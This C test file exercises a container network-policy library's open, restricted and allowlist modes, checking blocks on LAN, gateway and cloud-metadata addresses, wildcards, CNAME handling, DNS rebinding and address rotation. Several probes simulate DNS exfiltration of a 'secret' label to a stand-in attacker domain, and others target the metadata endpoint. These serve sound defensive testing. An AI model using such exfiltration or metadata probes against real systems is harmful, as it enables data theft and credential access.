/* The three modes against a real container: every case that restricted or
 * allowlist blocks is first shown to succeed in open mode, on the same
 * container, so no check passes because the target was unreachable anyway.
 * Also: DNS exfiltration, wildcards, per-entry ports, DNS rebinding into the
 * LAN, address rotation, CNAME chains with foreign records, the session's
 * DNS filter in restricted mode, and dns_servers / allowed_ports / local
 * access. */
#include <setjmp.h>
#include <signal.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cmocka.h>

#include "netpolicy/dns_filter.h"
#include "netpolicy/net.h"
#include "nettest.h"
#include "util/cleanup.h"

static struct nt_ctr ct;

struct check
{
  const char *kind, *a, *b;
};
/* Stands for the bridge's gateway, known only at run time. */
#define GATEWAY "gateway"

/* Blocked in restricted mode (and in allowlist mode). */
static const struct check local_targets[] = {
  { "tcp", "10.77.0.10", "80" },      { "udp", "10.77.0.10", "9999" },
  { "icmp", "10.77.0.10", NULL },     { "tcp", "192.168.77.10", "80" },
  { "icmp", "192.168.77.10", NULL },  { "tcp", "172.31.77.10", "80" },
  { "tcp", "100.64.77.10", "80" },    { "tcp", "169.254.169.254", "80" },
  { "udp", "169.254.169.254", "9999" }, { "icmp", "169.254.169.254", NULL },
  { "tcp", GATEWAY, "18080" },        { "tcp", NT_HOST_VETH_ADDR, "18080" },
  { "icmp", GATEWAY, NULL },
};
/* Allowed in restricted mode, blocked in allowlist mode. */
static const struct check public_targets[] = {
  { "tcp", "198.51.100.13", "80" },
  { "udp", "198.51.100.13", "9999" },
  { "icmp", "198.51.100.13", NULL },
  { "dns", NT_DNS, "blocked.test" },
};
#define N(a) (sizeof (a) / sizeof (a)[0])

static void expect (const char *kind, const char *a, const char *b, const char *want)
{
  _cleanup_free_ char *v = nt_probe (&ct, kind, a, b);
  bool ok = strncmp (v, want, strlen (want)) == 0;
  /* A reject answers with an ICMP error, which the host rate-limits per
   * destination: a burst of blocked probes sees some time out instead. */
  if (strcmp (want, "blocked") == 0)
    ok = strncmp (v, "unreach", 7) == 0 || strncmp (v, "timeout", 7) == 0;
  /* Nobody listening: port unreachable, also rate-limited. */
  if (strcmp (want, "closed") == 0)
    ok = strncmp (v, "refused", 7) == 0 || strncmp (v, "timeout", 7) == 0;
  printf ("# %-5s %-16s %-22s -> %-28s %s\n", kind, a, b ? b : "", v, ok ? "" : "UNEXPECTED");
  if (!ok)
    fail_msg ("%s %s %s: got '%s', want '%s'", kind, a, b ? b : "", v, want);
}

static void expect_all (const struct check *c, size_t n, const char *want)
{
  for (size_t i = 0; i < n; i++)
    expect (c[i].kind, strcmp (c[i].a, GATEWAY) == 0 ? NT_BRIDGE_GW : c[i].a, c[i].b, want);
}

static struct coi_net_policy *policy (enum coi_net_mode m)
{
  struct coi_net_policy *p = coi_net_policy_new (m);
  assert_non_null (p);
  return p;
}

static void apply (struct coi_net_policy *p)
{
  _cleanup_error_ coi_error_t err = NULL;
  if (coi_net_apply_policy (ct.s, p, &err) < 0)
    fail_msg ("apply: %s", err->msg);
}

static struct coi_net_policy *open_policy;

static int setup (void **state)
{
  (void) state;
  if (nt_up () < 0)
    return -1;
  open_policy = policy (COI_NET_OPEN);
  return nt_ctr_new (&ct, "coi-test-net-modes", open_policy, NULL);
}

static int teardown (void **state)
{
  (void) state;
  nt_ctr_free (&ct);
  coi_net_policy_free (open_policy);
  nt_down ();
  return 0;
}

/* The baseline: everything the other modes block works here. */
static void test_open (void **state)
{
  (void) state;
  apply (open_policy);
  expect_all (local_targets, N (local_targets), "ok");
  expect_all (public_targets, N (public_targets), "ok");
  expect ("tcp", "198.51.100.11", "80", "ok");
  expect ("tcp", "198.51.100.22", "80", "ok");
  expect ("tcp", "198.51.100.13", "443", "ok");
  expect ("tcp", "198.51.100.30", "443", "ok");
  /* The CNAME chain's address and the one a hostile answer appends. */
  expect ("tcp", "198.51.100.40", "80", "ok");
  expect ("tcp", "198.51.100.41", "80", "ok");
  /* No DNS server on .10: reaching it gives "refused" (port unreachable). */
  expect ("udp", "198.51.100.10", "53", "refused");
  expect ("tcp", "198.51.100.10", "853", "refused");
  char incus_name[96];
  snprintf (incus_name, sizeof incus_name, "%s.incus", ct.name);
  expect ("dns", NT_BRIDGE_GW, incus_name, "ok");
  nt_dns_log_clear ();
  expect ("dns", NT_DNS, "secret.attacker.test", "ok 198.51.100.66");
  assert_true (nt_dns_saw ("secret.attacker.test"));
  expect ("dnstcp", NT_DNS, "tcp.attacker.test", "ok 198.51.100.66");
  assert_true (nt_dns_saw ("tcp.attacker.test"));
}

/* The session's DNS filter, as its supervisor starts it; upstream 0: the
 * policy's (dns_servers[0], else the bridge's dnsmasq). */
static pid_t filter_start (uint32_t upstream)
{
  _cleanup_error_ coi_error_t err = NULL;
  struct coi_dns_filter_config cfg;
  coi_dns_filter_config_for (ct.s, &cfg);
  if (upstream)
    cfg.upstream_addr = upstream;
  pid_t filter = -1;
  if (coi_dns_filter_spawn (&cfg, &filter, &err) < 0)
    fail_msg ("filter: %s", err->msg);
  return filter;
}

static void filter_stop (pid_t filter)
{
  kill (filter, SIGTERM);
  waitpid (filter, NULL, 0);
}

static void test_restricted (void **state)
{
  (void) state;
  _cleanup_net_policy_ struct coi_net_policy *p = policy (COI_NET_RESTRICTED);
  apply (p);
  /* Names go through the session's filter, here to the test's resolver:
   * the default upstream (the bridge's dnsmasq) would send test names off
   * this machine. */
  uint32_t test_dns;
  assert_true (coi_ipv4_parse (NT_DNS, &test_dns));
  pid_t filter = filter_start (test_dns);
  expect_all (local_targets, N (local_targets), "blocked");
  expect_all (public_targets, N (public_targets), "ok");
  /* Port 53 of any address lands in the filter (no server on .10). */
  expect ("dns", "198.51.100.10", "blocked.test", "ok");
  filter_stop (filter);
  /* The default upstream is the bridge's dnsmasq, which knows the bridge's names. */
  filter = filter_start (0);
  char incus_name[96];
  snprintf (incus_name, sizeof incus_name, "%s.incus", ct.name);
  expect ("dns", NT_BRIDGE_GW, incus_name, "ok");
  filter_stop (filter);
  /* Without the filter names fail closed, addresses still work. */
  expect ("dns", NT_DNS, "blocked.test", "closed");
  expect ("tcp", "198.51.100.13", "80", "ok");
}

static void test_restricted_options (void **state)
{
  (void) state;
  _cleanup_error_ coi_error_t err = NULL;
  _cleanup_net_policy_ struct coi_net_policy *p = policy (COI_NET_RESTRICTED);
  assert_int_equal (coi_net_policy_add_dns_server (p, NT_DNS, &err), 0);
  assert_int_equal (coi_net_policy_add_allowed_port (p, 443, 443, &err), 0);
  apply (p);
  pid_t filter = filter_start (0);
  expect ("dns", NT_DNS, "blocked.test", "ok");
  /* Any resolver: still the filter, which asks the pinned one. */
  expect ("dns", "198.51.100.10", "blocked.test", "ok");
  expect ("tcp", "198.51.100.10", "853", "blocked"); /* pinned resolvers only */
  expect ("tcp", "198.51.100.13", "443", "ok");
  expect ("tcp", "198.51.100.13", "80", "blocked"); /* allowed_ports */
  expect ("icmp", "198.51.100.13", NULL, "ok");
  filter_stop (filter);

  _cleanup_net_policy_ struct coi_net_policy *local = policy (COI_NET_RESTRICTED);
  local->allow_local_network_access = true;
  apply (local);
  expect ("tcp", "10.77.0.10", "80", "ok");
  expect ("tcp", "192.168.77.10", "80", "ok");
  expect ("tcp", NT_BRIDGE_GW, "18080", "blocked");  /* never the host */
  expect ("tcp", "169.254.169.254", "80", "blocked"); /* metadata stays blocked */
}

static void test_allowlist (void **state)
{
  (void) state;
  _cleanup_error_ coi_error_t err = NULL;
  _cleanup_net_policy_ struct coi_net_policy *p = policy (COI_NET_ALLOWLIST);
  const char *entries[] = { "api.allowed.test", "port.allowed.test:443", "*.wild.test",
                            "rot.allowed.test", "lan.allowed.test", "198.51.100.20",
                            "chain.allowed.test" };
  for (size_t i = 0; i < N (entries); i++)
    assert_int_equal (coi_net_policy_add_entry (p, entries[i], &err), 0);
  assert_int_equal (coi_net_policy_add_dns_server (p, NT_DNS, &err), 0);
  const char *fixed[] = { "fixed.allowed.test", NULL };
  const uint16_t fixed_ports[] = { 80 };
  assert_int_equal (coi_net_policy_add_host (p, "198.51.100.30", fixed, fixed_ports, 1, &err), 0);
  apply (p);
  pid_t filter = filter_start (0);

  expect_all (local_targets, N (local_targets), "blocked");
  expect ("tcp", "198.51.100.20", "80", "ok"); /* static entry */
  expect ("tcp", "198.51.100.10", "80", "blocked"); /* not resolved yet */
  expect ("dns", NT_BRIDGE_GW, "api.allowed.test", "ok 198.51.100.10");
  expect ("tcp", "198.51.100.10", "80", "ok");
  expect ("udp", "198.51.100.10", "9999", "ok");
  expect ("icmp", "198.51.100.10", NULL, "ok");
  /* Port 53 to any server lands in the filter. */
  expect ("dns", NT_DNS, "api.allowed.test", "ok 198.51.100.10");
  expect_all (public_targets, N (public_targets) - 1, "blocked");
  expect ("dns", NT_DNS, "blocked.test", "rcode=5");

  /* Exfiltration: the name never leaves the host (the open test saw it arrive). */
  nt_dns_log_clear ();
  expect ("dns", NT_BRIDGE_GW, "secret.attacker.test", "rcode=5");
  expect ("dns", NT_DNS, "secret.attacker.test", "rcode=5");
  expect ("dns", "198.51.100.66", "c2VjcmV0.attacker.test", "rcode=5");
  expect ("dnstcp", NT_DNS, "tcp.attacker.test", "rcode=5");
  assert_false (nt_dns_saw ("secret.attacker.test"));
  assert_false (nt_dns_saw ("tcp.attacker.test"));
  assert_false (nt_dns_saw ("c2vjcmv0.attacker.test"));
  assert_true (nt_dns_saw ("api.allowed.test") == false); /* cleared above, nothing allowed asked */

  /* DNS over TCP (what resolvers fall back to on truncation) learns too. */
  expect ("tcp", "198.51.100.12", "80", "blocked");
  expect ("dnstcp", NT_DNS, "x.wild.test", "ok 198.51.100.12");
  expect ("tcp", "198.51.100.12", "80", "ok");
  expect ("dnstcp", NT_BRIDGE_GW, "fixed.allowed.test", "ok 198.51.100.30");

  /* Wildcards: below the suffix only. */
  expect ("dns", NT_BRIDGE_GW, "deep.x.wild.test", "ok 198.51.100.12");
  expect ("tcp", "198.51.100.12", "80", "ok");
  expect ("dns", NT_BRIDGE_GW, "wild.test", "rcode=5");

  /* Per-entry ports. */
  expect ("dns", NT_BRIDGE_GW, "port.allowed.test", "ok 198.51.100.11");
  expect ("tcp", "198.51.100.11", "443", "ok");
  expect ("tcp", "198.51.100.11", "80", "blocked");

  /* [[network.hosts]]: answered by the filter itself, only its ports. */
  expect ("dns", NT_BRIDGE_GW, "fixed.allowed.test", "ok 198.51.100.30");
  assert_false (nt_dns_saw ("fixed.allowed.test"));
  expect ("tcp", "198.51.100.30", "80", "ok");
  expect ("tcp", "198.51.100.30", "443", "blocked");

  /* Only the CNAME chain of the question is learned: the answer also
   * carries an A record under an unrelated owner name (as a hostile
   * upstream could append), and the client even sees it, but the firewall
   * does not open it. */
  expect ("tcp", "198.51.100.40", "80", "blocked");
  expect ("tcp", "198.51.100.41", "80", "blocked");
  expect ("dns", NT_BRIDGE_GW, "chain.allowed.test", "ok 198.51.100.40 198.51.100.41");
  expect ("tcp", "198.51.100.40", "80", "ok");
  expect ("tcp", "198.51.100.41", "80", "blocked");

  /* An allowed name pointing into the LAN does not open the LAN. */
  expect ("dns", NT_BRIDGE_GW, "lan.allowed.test", "ok 10.77.0.10");
  expect ("tcp", "10.77.0.10", "80", "blocked");

  /* The container's own resolver path (systemd-resolved -> bridge -> filter). */
  char *out = NULL;
  int rc = -1;
  assert_int_equal (nt_exec (ct.name, (const char *const[]){ "getent", "hosts", "api.allowed.test", NULL },
                             &out, &rc), 0);
  printf ("# getent hosts api.allowed.test -> %s (rc %d)\n", out, rc);
  assert_non_null (strstr (out, "198.51.100.10"));
  free (out);

  /* Rotation: the name moves; the new address works once it is answered. */
  expect ("dns", NT_BRIDGE_GW, "rot.allowed.test", "ok 198.51.100.21");
  expect ("tcp", "198.51.100.21", "80", "ok");
  expect ("tcp", "198.51.100.22", "80", "blocked");
  nt_set_rot ("198.51.100.22");
  expect ("dns", NT_BRIDGE_GW, "rot.allowed.test", "ok 198.51.100.22");
  expect ("tcp", "198.51.100.22", "80", "ok");

  /* Re-applying the same policy (a refresh) keeps static entries working. */
  apply (p);
  expect ("tcp", "198.51.100.20", "80", "ok");

  filter_stop (filter);
  /* Without the filter, names fail closed. */
  expect ("dns", NT_BRIDGE_GW, "api.allowed.test", "closed");
}

int main (void)
{
  const struct CMUnitTest tests[] = {
    cmocka_unit_test (test_open),
    cmocka_unit_test (test_restricted),
    cmocka_unit_test (test_restricted_options),
    cmocka_unit_test (test_allowlist),
  };
  return cmocka_run_group_tests (tests, setup, teardown);
}
